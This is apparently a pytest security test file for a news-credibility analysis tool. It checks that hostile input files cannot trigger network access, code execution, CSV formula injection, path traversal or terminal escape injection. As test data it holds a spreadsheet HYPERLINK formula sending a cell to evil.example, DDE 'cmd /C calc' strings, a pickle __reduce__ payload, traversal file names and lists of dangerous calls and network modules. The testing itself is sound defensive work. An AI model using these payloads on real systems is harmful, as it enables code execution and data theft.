"""Files written by adversaries must not harm the user.

No network: socket creation fails for the whole run (library, every CLI command, batch with and
without worker processes).  No eval, exec or pickle of anything read.  CSV cells that a
spreadsheet would run as a formula are neutralised.  Batch outputs stay inside ``--out`` whatever
the input files are called.  (HTML escaping is tested in tests/test_html.py.)
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

import credibility
from credibility.cli import main
from credibility.report import safe_cell
from tests.conftest import ROOT, SEED

PACKAGE = ROOT / "credibility"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HTML_PAGE = """<!doctype html><html><head><title>Bridge closed after the flood</title>
<meta property="og:site_name" content="Example News"><meta name="date" content="2020-08-05">
<link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js">
</script></head><body><nav>Home | World</nav><article><h1>Bridge closed after the flood</h1>
<p>The minister said on Monday that the bridge was closed after the flood.</p>
<p>"We had no choice," a local official told reporters, asking not to be named.</p>
<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example/"></iframe>
</article></body></html>"""


def _mixed_folder(root: Path) -> Path:
    """A batch input folder with every format and a few bad files."""
    root.mkdir()
    (root / "seed.txt").write_bytes(SEED.read_bytes())
    (root / "page.html").write_text(HTML_PAGE, encoding="utf-8")
    (root / "notes.md").write_text("# Bridge closed\n\nThe mayor said the bridge was closed.\n",
                                   encoding="utf-8")
    (root / "one.json").write_text(json.dumps({"text": "The mayor said it reopened.",
                                               "title": "Reopened", "url": "http://x.example"}),
                                   encoding="utf-8")
    (root / "many.jsonl").write_text(
        "\n".join(json.dumps({"text": f"Official {i} said the bridge was closed."})
                  for i in range(3)), encoding="utf-8")
    (root / "empty.txt").write_text("")
    (root / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    return root


# --- no network -----------------------------------------------------------------------------

def _is_ipv6_probe() -> bool:
    """Whether the caller is urllib3's import-time check for IPv6 support.

    ``import trafilatura`` imports urllib3, whose ``util/connection.py`` binds a socket to ``::1``
    once to see whether IPv6 exists: no traffic, and it copes with the failure.  It is refused
    like any socket but not counted as an attempt to use the network.
    """
    frame = sys._getframe(2)
    while frame is not None:
        code = frame.f_code
        if code.co_name == "_has_ipv6" and code.co_filename.replace("\\", "/").endswith(
                "urllib3/util/connection.py"):
            return True
        frame = frame.f_back
    return False


class _NoNetwork:
    """Replaces socket creation and name lookup with functions that fail and record the try.

    Unix-domain sockets stay allowed: they are local IPC (multiprocessing uses them), not network.
    """

    def __init__(self, monkeypatch):
        self.attempts: list[str] = []
        real_socket = socket.socket
        guard = self

        class GuardedSocket(real_socket):
            def __init__(self, family=-1, type=-1, proto=-1, fileno=None):
                if fileno is None and family != socket.AF_UNIX:
                    if not _is_ipv6_probe():
                        guard.attempts.append(f"socket(family={family})")
                    raise OSError("network access attempted in a no-network test")
                super().__init__(family, type, proto, fileno)

        def refuse(name):
            def f(*args, **kwargs):
                guard.attempts.append(f"{name}{args!r}")
                raise OSError(f"network access attempted in a no-network test: {name}")
            return f

        monkeypatch.setattr(socket, "socket", GuardedSocket)
        for name in ("create_connection", "getaddrinfo", "gethostbyname", "gethostbyname_ex",
                     "gethostbyaddr", "create_server"):
            monkeypatch.setattr(socket, name, refuse(name))


def test_socket_guard_works(monkeypatch):
    guard = _NoNetwork(monkeypatch)
    with pytest.raises(OSError):
        socket.create_connection(("example.org", 80))
    with pytest.raises(OSError):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with pytest.raises(OSError):
        socket.socket(socket.AF_INET6)
    assert len(guard.attempts) == 3


def test_whole_pipeline_without_network(monkeypatch, tmp_path):
    guard = _NoNetwork(monkeypatch)
    runner = CliRunner()
    report = credibility.analyze(SEED.read_text(encoding="utf-8"))
    assert report.claims
    assert credibility.analyze(HTML_PAGE, fmt="html").claims
    page = tmp_path / "page.html"
    page.write_text(HTML_PAGE, encoding="utf-8")
    for fmt in ("text", "markdown", "json", "csv", "html"):
        for article in (str(SEED), str(page)):
            r = runner.invoke(main, ["report", "-f", fmt, article])
            assert r.exit_code == 0, (fmt, article, r.stderr)
            r = runner.invoke(main, ["uncorroborated", "-f", fmt, article])
            assert r.exit_code == 0, (fmt, article, r.stderr)
    r = runner.invoke(main, ["report", "-f", "json", "--include-text", "-"],
                      input=SEED.read_bytes())
    assert r.exit_code == 0
    folder = _mixed_folder(tmp_path / "in")
    r = runner.invoke(main, ["batch", str(folder), "--out", str(tmp_path / "out"), "-j", "1",
                             "-q"])
    assert r.exit_code == 0, r.stderr
    assert (tmp_path / "out" / "reports.jsonl").read_text(encoding="utf-8")
    assert guard.attempts == []


_SITECUSTOMIZE = """
import os, socket, sys
_log = os.environ["CREDIBILITY_NET_LOG"]
_real = socket.socket
def _probe():  # urllib3's import-time IPv6 check: see _is_ipv6_probe
    f = sys._getframe(2)
    while f is not None:
        if f.f_code.co_name == "_has_ipv6":
            return True
        f = f.f_back
    return False
class _Guarded(_real):
    def __init__(self, family=-1, type=-1, proto=-1, fileno=None):
        if fileno is None and family != socket.AF_UNIX:
            if not _probe():
                with open(_log, "a") as f:
                    f.write(f"{os.getpid()} socket({family})\\n")
            raise OSError("network access attempted")
        super().__init__(family, type, proto, fileno)
def _refuse(name):
    def f(*a, **k):
        with open(_log, "a") as fp:
            fp.write(f"{os.getpid()} {name}{a!r}\\n")
        raise OSError("network access attempted")
    return f
socket.socket = _Guarded
for _n in ("create_connection", "getaddrinfo", "gethostbyname", "create_server"):
    setattr(socket, _n, _refuse(_n))
"""


@pytest.mark.skipif(os.name != "posix", reason="worker processes are tested on POSIX")
def test_parallel_batch_without_network(tmp_path):
    """Every process of the run (the CLI and its workers) starts with socket creation failing."""
    guard_dir = tmp_path / "guard"
    guard_dir.mkdir()
    (guard_dir / "sitecustomize.py").write_text(textwrap.dedent(_SITECUSTOMIZE), encoding="utf-8")
    log = tmp_path / "net.log"
    folder = _mixed_folder(tmp_path / "in")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(guard_dir), str(ROOT)]),
           "CREDIBILITY_NET_LOG": str(log)}
    probe = subprocess.run([sys.executable, "-c",
                            "import socket; socket.create_connection(('example.org', 80))"],
                           env=env, capture_output=True, text=True, timeout=60)
    assert probe.returncode != 0 and log.exists(), "the guard is not active in subprocesses"
    log.unlink()
    p = subprocess.run([sys.executable, "-m", "credibility.cli", "batch", str(folder), "--out",
                        str(tmp_path / "out"), "-j", "2", "-q"],
                       env=env, capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    assert not log.exists(), log.read_text()
    assert len((tmp_path / "out" / "reports.jsonl").read_text().splitlines()) == 7


# --- nothing read is executed ---------------------------------------------------------------

_DANGEROUS_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint"}
_DANGEROUS_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill", "cloudpickle",
                      "joblib", "subprocess", "pty", "ctypes"}
_NETWORK_MODULES = {"socket", "ssl", "urllib", "urllib3", "http", "requests", "httpx", "aiohttp",
                    "ftplib", "smtplib", "telnetlib", "xmlrpc", "webbrowser"}


def _findings(path: Path) -> list[str]:
    """Calls and imports in ``path`` that could run or fetch something."""
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            if isinstance(f, ast.Name) and f.id in _DANGEROUS_CALLS:
                out.append(f"line {node.lineno}: {f.id}()")
            if isinstance(f, ast.Attribute) and f.attr in {"system", "popen", "execv", "execve",
                                                           "execvp", "spawnv", "startfile"} \
                    and isinstance(f.value, ast.Name) and f.value.id == "os":
                out.append(f"line {node.lineno}: os.{f.attr}()")
            if isinstance(f, ast.Attribute) and f.attr in {"load", "unsafe_load", "full_load"} \
                    and isinstance(f.value, ast.Name) and f.value.id == "yaml":
                out.append(f"line {node.lineno}: yaml.{f.attr}()")
        names = []
        if isinstance(node, ast.Import):
            names = [a.name for a in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            names = [node.module]
        for name in names:
            top = name.split(".")[0]
            if top in _DANGEROUS_MODULES or top in _NETWORK_MODULES:
                out.append(f"line {node.lineno}: import {name}")
    return out


_KNOWN: dict[str, str] = {}  # module -> reason, for a known hole waiting for its fix (xfail)


@pytest.mark.parametrize("module", [
    pytest.param(p.name, marks=pytest.mark.xfail(reason=_KNOWN[p.name])) if p.name in _KNOWN
    else p.name
    for p in sorted(PACKAGE.glob("*.py"))])
def test_no_eval_exec_pickle_or_network_module(module):
    assert _findings(PACKAGE / module) == []


def test_the_checker_finds_what_it_looks_for(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text("import pickle\nfrom urllib.request import urlopen\nimport os\n"
                   "eval('1')\nexec('x=1')\nos.system('ls')\n", encoding="utf-8")
    assert len(_findings(bad)) == 5


def test_a_planted_batch_journal_is_not_executed(tmp_path):
    """An attacker who can write into --out plants a journal; the next batch must not run it.

    The planted file is a pickle in the shape of the first journal format (which was unpickled).
    """
    import struct
    import zlib

    folder = _mixed_folder(tmp_path / "in")
    out = tmp_path / "out"
    state = out / ".credibility-batch"
    state.mkdir(parents=True)
    marker = tmp_path / "pwned"

    class Payload:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    import pickle  # the attacker's side, to build the planted file

    meta = pickle.dumps(Payload())
    payload = zlib.compress(pickle.dumps([]))
    record = struct.pack("<4sIII", b"CRB1", len(meta), len(payload),
                         zlib.crc32(meta + payload)) + meta + payload
    (state / "journal.bin").write_bytes(record)
    r = CliRunner().invoke(main, ["batch", str(folder), "--out", str(out), "-j", "1", "-q"])
    assert not marker.exists(), "the planted journal ran code"
    assert r.exit_code == 0, r.stderr
    assert len((out / "reports.jsonl").read_text(encoding="utf-8").splitlines()) == 7


# --- CSV cells ------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"),
    ("a=1", "a=1"), ("", ""), (None, None), (3, 3), (-1.5, -1.5), (True, True),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


HOSTILE_ARTICLE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")\n\n'
    '"=1+2," said @attacker, who spoke to reporters.\n'
    "-5 soldiers died, a local official told RFA.\n"
    "+cmd|' /C calc'!A0 said the ministry.\n"
    "@SUM(1+1)*cmd|' /C calc'!A0 the official said.\n"
    "\t=tab said the official.\n"
)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_report_csv_neutralises_formulas(tmp_path):
    path = tmp_path / "=cmd|' calc'!A0.txt"
    path.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    for command in ("report", "uncorroborated"):
        r = CliRunner().invoke(main, [command, "-f", "csv", str(path)])
        assert r.exit_code == 0, r.stderr
        cells = _csv_cells(r.stdout)
        assert cells
        assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_batch_csv_neutralises_formulas(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("=cmd|' calc'!A0.txt", "+1.txt", "-rf.txt", "@x.md"):
        (folder / name).write_text(HOSTILE_ARTICLE, encoding="utf-8")
    (folder / "=empty.txt").write_text("")
    (folder / "-broken.json").write_text("{oops")
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["batch", str(folder), "--out", str(out), "-j", "1", "-q"])
    assert r.exit_code == 0, r.stderr
    for table in out.glob("*.csv"):
        cells = _csv_cells(table.read_text(encoding="utf-8"))
        assert [c for c in cells if c.startswith(FORMULA_START)] == [], table.name
    summary = (out / "summary.csv").read_text(encoding="utf-8")
    assert "'=empty.txt" in summary and "'-broken.json" in summary


# --- outputs stay inside --out --------------------------------------------------------------

@pytest.mark.parametrize("command", ["report", "uncorroborated"])
def test_single_file_output_goes_only_where_asked(tmp_path, command):
    article = tmp_path / "a.txt"
    article.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    before = set(tmp_path.rglob("*"))
    out = tmp_path / "r.json"
    r = CliRunner().invoke(main, [command, "-f", "json", "-o", str(out), str(article)])
    assert r.exit_code == 0, r.stderr
    assert set(tmp_path.rglob("*")) - before == {out}


def test_crafted_file_names_cannot_escape_out(tmp_path):
    folder = tmp_path / "in"
    (folder / "sub" / "x..." / "deeper").mkdir(parents=True)
    names = ["..txt", "x..\\..\\evil.txt", "%2e%2e%2fevil.txt", "a\nb.txt", "-o.txt",
             "reports.jsonl.txt", "summary.csv", "errors.jsonl", "x" * 200 + ".txt"]
    for name in names:
        (folder / name).write_text(HOSTILE_ARTICLE, encoding="utf-8")
    (folder / "sub" / "x..." / "deeper" / "y..md").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    out = tmp_path / "work" / "out"
    before = set(tmp_path.rglob("*"))
    r = CliRunner().invoke(main, ["batch", str(folder), "--out", str(out), "-j", "1", "-q"])
    assert r.exit_code == 0, r.stderr
    created = set(tmp_path.rglob("*")) - before
    assert created and all(p in out.parents or p == out or out in p.parents
                           for p in created), sorted(created)
    assert {p.name for p in out.iterdir() if not p.name.startswith(".")} <= {
        "reports.jsonl", "summary.csv", "errors.jsonl", "duplicates.csv", "claims.parquet",
        "summary.parquet"}
    paths = [json.loads(line)["document"]["path"]
             for line in (out / "reports.jsonl").read_text(encoding="utf-8").splitlines()]
    assert "x..\\..\\evil.txt" in paths and "sub/x.../deeper/y..md" in paths
    assert "a\nb.txt" in paths


# --- terminal output ------------------------------------------------------------------------

_TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ESCAPE_ARTICLE = ("Title \x1b]0;pwned\x07 \x1b[2J\x1b[H\n\n"
                  "The minister said \x1b[8mthe bridge\x1b[0m was closed, a \u202eresident told "
                  "reporters.\x9b31m\n")


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_terminal_output_carries_no_control_sequences(tmp_path, fmt):
    article = tmp_path / "esc.txt"
    article.write_text(ESCAPE_ARTICLE, encoding="utf-8")
    for command in ("report", "uncorroborated"):
        r = CliRunner().invoke(main, [command, "-f", fmt, str(article)])
        assert r.exit_code == 0, r.stderr
        assert _TERMINAL_CONTROL.findall(r.stdout) == []


def test_error_messages_carry_no_control_sequences(tmp_path):
    bad = tmp_path / "x\x1b]0;pwned\x07.txt"
    bad.write_bytes(b"")
    r = CliRunner().invoke(main, ["report", str(bad)])
    assert r.exit_code == 3
    assert _TERMINAL_CONTROL.findall(r.stderr) == []
